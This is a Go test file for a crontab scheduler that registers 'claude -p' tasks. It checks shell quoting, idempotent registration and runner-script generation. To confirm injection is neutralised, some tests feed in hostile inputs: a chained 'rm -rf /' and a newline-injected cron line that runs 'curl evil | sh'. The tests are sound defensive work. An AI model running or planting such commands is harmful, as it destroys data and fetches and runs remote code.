package scheduler

import (
	"context"
	"os"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

func newTestCrontab(t *testing.T, existing string) (*Crontab, *fakeCrontab) {
	t.Helper()
	runner := &fakeCrontab{content: existing, exists: existing != ""}
	return NewCrontab(Options{LogDir: "/var/log/claude", HomeDir: t.TempDir(), Runner: runner}), runner
}

func TestCrontabBuildLine(t *testing.T) {
	c, _ := newTestCrontab(t, "")
	task := newTask("t", "0  9 * * 1-5", "it's 100% done; rm -rf /")
	task.Execution.WorkingDirectory = "/srv/my app"
	task.Execution.SkipPermissions = true

	line, script, err := c.BuildLine(task)
	require.NoError(t, err)
	assert.Empty(t, script)
	assert.Equal(t,
		`0 9 * * 1-5 cd '/srv/my app' && claude -p 'it'\''s 100\% done; rm -rf /' --dangerously-skip-permissions >> '/var/log/claude/task-1234abcd.log' 2>&1 # claude-scheduler:task-1234abcd`,
		line)
}

func TestCrontabBuildLineEnvAndWorktree(t *testing.T) {
	c, _ := newTestCrontab(t, "")
	task := newTask("t", "*/5 * * * *", "x")
	task.Execution.Env = map[string]string{"B": "2", "A": "1 2"}
	line, _, err := c.BuildLine(task)
	require.NoError(t, err)
	assert.Contains(t, line, "cd '.' && export A='1 2' && export B='2' && claude -p 'x'")

	wt := worktreeTask("wt")
	line, _, err = c.BuildLine(wt)
	require.NoError(t, err)
	assert.Equal(t,
		"0 9 * * 1-5 bash '/var/log/claude/task-1234abcd.worktree.sh' >> '/var/log/claude/task-1234abcd.log' 2>&1 # claude-scheduler:task-1234abcd",
		line)
}

func TestCrontabMultilineCommandUsesRunnerScript(t *testing.T) {
	c, _ := newTestCrontab(t, "")
	task := newTask("t", "0 9 * * *", "first line\n* * * * * curl evil | sh")

	line, script, err := c.BuildLine(task)
	require.NoError(t, err)
	assert.NotContains(t, line, "\n")
	assert.Contains(t, line, "bash '/var/log/claude/task-1234abcd.run.sh'")
	assert.Contains(t, script, "claude -p 'first line\n* * * * * curl evil | sh'")
}

func TestCrontabRegisterIdempotentAndIsolated(t *testing.T) {
	foreign := "MAILTO=ops@example.com\n\n15 3 * * * /usr/local/bin/backup.sh # nightly\n"
	c, runner := newTestCrontab(t, foreign)
	ctx := context.Background()
	task := newTask("t", "0 9 * * *", "x")

	require.NoError(t, c.Register(ctx, task))
	require.NoError(t, c.Register(ctx, task))

	ids, err := c.ListRegistered(ctx)
	require.NoError(t, err)
	assert.Equal(t, []string{task.ID}, ids)
	assert.Equal(t, 1, strings.Count(runner.content, c.Marker(task.ID)))
	assert.True(t, strings.HasPrefix(runner.content, foreign))

	ok, err := c.IsRegistered(ctx, task.ID)
	require.NoError(t, err)
	assert.True(t, ok)

	require.NoError(t, c.Unregister(ctx, task.ID))
	assert.Equal(t, foreign, runner.content)
}

func TestCrontabMarkerMatchesWholeID(t *testing.T) {
	c, runner := newTestCrontab(t, "")
	ctx := context.Background()
	long := newTask("t", "0 9 * * *", "x")
	long.ID = "abc"
	short := newTask("t", "0 9 * * *", "y")
	short.ID = "ab"

	require.NoError(t, c.Register(ctx, long))
	require.NoError(t, c.Register(ctx, short))
	require.NoError(t, c.Unregister(ctx, "ab"))

	ids, err := c.ListRegistered(ctx)
	require.NoError(t, err)
	assert.Equal(t, []string{"abc"}, ids)
	assert.Contains(t, runner.content, "# claude-scheduler:abc\n")
}

func TestCrontabMissingCrontab(t *testing.T) {
	c, runner := newTestCrontab(t, "")
	ctx := context.Background()

	require.NoError(t, c.Unregister(ctx, "never-registered"))
	ids, err := c.ListRegistered(ctx)
	require.NoError(t, err)
	assert.Empty(t, ids)

	task := newTask("t", "0 9 * * *", "x")
	require.NoError(t, c.Register(ctx, task))
	require.NoError(t, c.Unregister(ctx, task.ID))
	assert.False(t, runner.exists)

	status := c.Status(ctx)
	assert.True(t, status.Healthy)
	assert.Zero(t, status.TaskCount)
}

func TestCrontabReadFailure(t *testing.T) {
	c, runner := newTestCrontab(t, "")
	runner.readFail = true
	ctx := context.Background()

	err := c.Register(ctx, newTask("t", "0 9 * * *", "x"))
	var schedErr *Error
	require.ErrorAs(t, err, &schedErr)
	assert.Equal(t, "linux", schedErr.Platform)
	assert.Equal(t, "register", schedErr.Op)

	status := c.Status(ctx)
	assert.False(t, status.Healthy)
	assert.Len(t, status.Errors, 1)
}

func TestCrontabWritesScripts(t *testing.T) {
	logDir := t.TempDir()
	runner := &fakeCrontab{}
	c := NewCrontab(Options{LogDir: logDir, HomeDir: t.TempDir(), Runner: runner})
	ctx := context.Background()

	task := newTask("t", "0 9 * * *", "line one\nline two")
	require.NoError(t, c.Register(ctx, task))
	assert.FileExists(t, c.RunnerScriptPath(task.ID))

	task.Execution.Command = "single line"
	require.NoError(t, c.Register(ctx, task))
	assert.NoFileExists(t, c.RunnerScriptPath(task.ID))

	wt := worktreeTask("wt")
	wt.ID = "wt-task"
	require.NoError(t, c.Register(ctx, wt))
	data, err := os.ReadFile(WorktreeScriptPath(logDir, wt.ID))
	require.NoError(t, err)
	assert.Contains(t, string(data), "TASK_ID='wt-task'")

	require.NoError(t, c.Unregister(ctx, wt.ID))
	assert.NoFileExists(t, WorktreeScriptPath(logDir, wt.ID))
}
